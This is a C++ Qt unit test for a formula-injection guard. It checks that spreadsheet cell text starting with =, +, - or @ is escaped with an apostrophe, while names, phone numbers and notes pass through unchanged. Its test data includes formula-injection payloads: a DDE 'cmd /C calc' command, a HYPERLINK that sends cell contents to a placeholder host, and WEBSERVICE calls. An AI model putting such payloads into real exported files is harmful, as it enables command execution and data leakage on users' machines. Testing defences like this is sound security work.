#include "core/exchange/formula_guard.h"

#include <QTest>

using namespace talbook;

class TestFormulaGuard : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void whatCouldBeEvaluatedIsGuarded_data()
    {
        QTest::addColumn<QByteArray>("text");
        for (const char *text : {
                 "=1+1",
                 "=cmd|' /C calc'!A0",
                 "=",
                 "=)",
                 "=HYPERLINK(\"http://x.example/?\"&A1)",
                 "==A1",
                 "+SUM(A1:A9)",
                 "-2+3+cmd|' /C calc'!A0",
                 "-1+HYPERLINK(\"x\")",
                 "+SUM (A1)",
                 "- \tSUM(A1)",
                 "--SUM(A1)",
                 "+СУММ(A1:A9)",
                 "-гиперссылка(\"x\")",
                 "+_xlfn.WEBSERVICE(A1)",
                 "+A1",
                 "-A1*2",
                 "-$A$1",
                 "+5+B2",
                 "-(A1)",
                 "+A1:B9",
                 "-A1%",
                 "-Q4",
                 "+R1C1",
                 "-R2C3*5",
                 "+ A1",
                 "+Sheet1!B2",
                 "-'Other sheet'!A1",
                 "+[book.xlsx]One!A1",

                 "-a|b",
                 "@SUM(1+1)*cmd|' /C calc'!A0",
                 "@A1",
                 "@A1+1",
                 "@WEBSERVICE(\"x\")",
                 "\t=1+1",
                 "\r\n=1+1",
                 "\n-A1",
                 "\t @SUM(1)",
                 "＝1+1",
                 "＋ＳＵＭ（Ａ１）",
                 "－A1",
                 "＠SUM(A1)",
             })
            QTest::newRow(text) << QByteArray(text);
    }
    void whatCouldBeEvaluatedIsGuarded()
    {
        QFETCH(QByteArray, text);
        const std::string safe = guarded(text.toStdString());
        QCOMPARE(QByteArray::fromStdString(safe), QByteArray("'" + text));
        QCOMPARE(QByteArray::fromStdString(std::string(unguarded(safe))), text);
    }

    void namesNumbersAndNotesStayAsTheyAre_data()
    {
        QTest::addColumn<QByteArray>("text");
        for (const char *text : {
                 "",
                 "Acme",
                 "A1",
                 "SUM(A1)",
                 "a=b",
                 "1+1",
                 "5-A1",
                 "'",
                 "'tis",
                 "O'Neill",
                 "''",
                 "-5",
                 "+5",
                 "-5.5",
                 "-1,000.50",
                 "-1 000,50",
                 "-5%",
                 "+1.5e3",
                 "-1/2",
                 "-10:30",
                 "+0",
                 "--1",
                 "-",
                 "+",
                 "@",
                 "-.",
                 "+7 495 123-45-67",
                 "+7 (495) 123-45-67",
                 "+74951234567",
                 "+44 20 7946 0958",
                 "+1-800-555-0100",
                 "+49 (0) 30 1234",
                 "-$1.00",
                 "-$100",
                 "-€5",
                 "(+7 495) 1",
                 "@pos.com",
                 "@handle",
                 "@my_company",
                 "@ the office",
                 "@2027",
                 "@acme ltd",
                 "- none",
                 "-none",
                 "- none, yet",
                 "+CMS",
                 "+one GmbH",
                 "-N/A",
                 "- n/a",
                 "+A GmbH",
                 "-Infinity",
                 "- call them in Q4 2027",
                 "- Q4 2027",
                 "- great news!",
                 "- wow! Really",
                 "+B2B leads",
                 "+R2D2",
                 "-->",
                 "-- Best regards",
                 "\tindented",
                 "\n",
                 "\t- none",
                 "\r\n+7 495",
                 "＋７",
                 "＠home",
                 "\u2212A1",
                 "+\u041C",
                 "-5 (five)",
             })
            QTest::newRow(text) << QByteArray(text);
    }
    void namesNumbersAndNotesStayAsTheyAre()
    {
        QFETCH(QByteArray, text);
        QCOMPARE(QByteArray::fromStdString(guarded(text.toStdString())), text);
        QCOMPARE(QByteArray::fromStdString(std::string(unguarded(text.toStdString()))), text);
    }

    void apostrophesOfTheAuthorSurvive()
    {
        for (const char *text : {"'=1+1", "''=1+1", "'+SUM(A1)", "'\t=1"}) {
            const std::string safe = guarded(text);
            QCOMPARE(safe, "'" + std::string(text));
            QCOMPARE(std::string(unguarded(safe)), std::string(text));
        }
    }
};

QTEST_GUILESS_MAIN(TestFormulaGuard)
#include "test_formula_guard.moc"
